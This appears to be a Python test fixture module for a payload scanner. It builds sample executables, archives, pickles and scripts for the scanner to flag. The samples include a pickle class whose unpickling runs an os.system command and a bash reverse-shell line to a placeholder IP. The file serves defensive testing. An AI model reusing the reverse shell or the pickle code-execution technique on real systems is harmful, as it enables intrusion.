"""Programs, archives, pickles and scripts as an attacker hides them."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

import numpy as np

from tests.static_world import Recorder


class Evil:
    """Unpickling it would run a command."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("id",)


def elf() -> bytes:
    """Return the header of a shared object, 64 bits, x86-64."""
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(40)


def windows() -> bytes:
    """Return MZ and PE headers of an x86-64 program."""
    dos = (b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(44) + (128).to_bytes(4, "little")).ljust(128, b"\0")
    return dos + b"PE\0\0" + struct.pack("<HH12xHHH", 0x8664, 6, 240, 0x22, 0x20B) + bytes(222)


def macos() -> bytes:
    """Return the header of an arm64 Mach-O program."""
    return struct.pack("<IIIIIIII", 0xFEEDFACF, 0x100000C, 0, 2, 17, 1500, 0, 0)


def java() -> bytes:
    """Return the header of a class file of Java 17."""
    return b"\xca\xfe\xba\xbe" + struct.pack(">HHH", 0, 61, 20) + b"\x0a\0\x02\0\x03" + bytes(40)


def seven_zip() -> bytes:
    """Return the start header of an empty 7z archive."""
    return b"7z\xbc\xaf\x27\x1c\0\x04" + zlib.crc32(bytes(20)).to_bytes(4, "little") + bytes(20)


def zipped(name: str = "evil.py", method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a zip archive with one member."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr(name, b"import os\n" * 20)
    return out.getvalue()


def tarred() -> bytes:
    """Return a tar archive with one member."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        member = tarfile.TarInfo("evil.sh")
        member.size = 3
        archive.addfile(member, io.BytesIO(b"id\n"))
    return out.getvalue()


def objects() -> bytes:
    """Return a NumPy file of Python objects."""
    out = io.BytesIO()
    np.save(out, np.array([{}, 1], object), allow_pickle=True)
    return out.getvalue()


PAYLOADS: dict[str, tuple[Callable[[], bytes], str]] = {
    "elf": (elf, "executable"),
    "elf-without-version": (
        lambda: b"\x7fELF" + struct.pack("<12xHH34xHH6x", 2, 62, 56, 9),
        "executable",
    ),
    "compiled-python": (lambda: b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(40), "executable"),
    "windows": (windows, "executable"),
    "macos": (macos, "executable"),
    "java": (java, "executable"),
    "wasm": (lambda: b"\0asm\x01\0\0\0\x01\x04\x01\x60\0\0" + bytes(20), "executable"),
    "zip": (zipped, "archive"),
    "zip-stored": (lambda: zipped(method=zipfile.ZIP_STORED), "archive"),
    "tar": (tarred, "archive"),
    "gzip": (lambda: gzip.compress(bytes(99)), "archive"),
    "gzip-text": (lambda: gzip.compress(PROSE.encode() * 40), "archive"),
    "xz": (lambda: lzma.compress(b"payload" * 9), "archive"),
    "bzip2": (lambda: bz2.compress(b"payload" * 9), "archive"),
    "7z": (seven_zip, "archive"),
    "rar": (lambda: b"Rar!\x1a\x07\x01\0" + bytes(40), "archive"),
    "torch": (lambda: zipped("model/data.pkl", zipfile.ZIP_STORED), "pickle"),
    **{f"pickle-{number}": (lambda number=number: pickle.dumps(Evil(), number), "pickle") for number in range(6)},
    "pickle-data": (lambda: pickle.dumps([1] * 40, 4), "pickle"),
    "pickle-old-data": (lambda: pickle.dumps({"a": [1, 2, 3] * 9}, 2), "pickle"),
    "numpy-objects": (objects, "pickle"),
    "script": (lambda: b"#!/bin/sh\nid\n", "script"),
    "command": (lambda: b"x = os.system('id')", "script"),
    "shell": (lambda: b"bash -i >& /dev/tcp/192.0.2.1/443 0>&1", "script"),
    "elf-base64": (lambda: base64.b64encode(elf()), "executable"),
    "pickle-base64": (lambda: base64.b64encode(pickle.dumps(Evil(), 4)), "pickle"),
}  # fmt: skip
PROSE = "It was the best of times, it was the worst of times, it was the age of wisdom. "


def told(recorder: Recorder) -> list[tuple[str, str, str]]:
    """Return kind, place and message of each payload."""
    problems = [one for frame in recorder.frames.values() for one in frame.get("problems", ())]
    return [
        (one["code"].removeprefix("payload/"), one["where"], one["message"])
        for one in problems
        if one["code"].startswith("payload/")
    ]
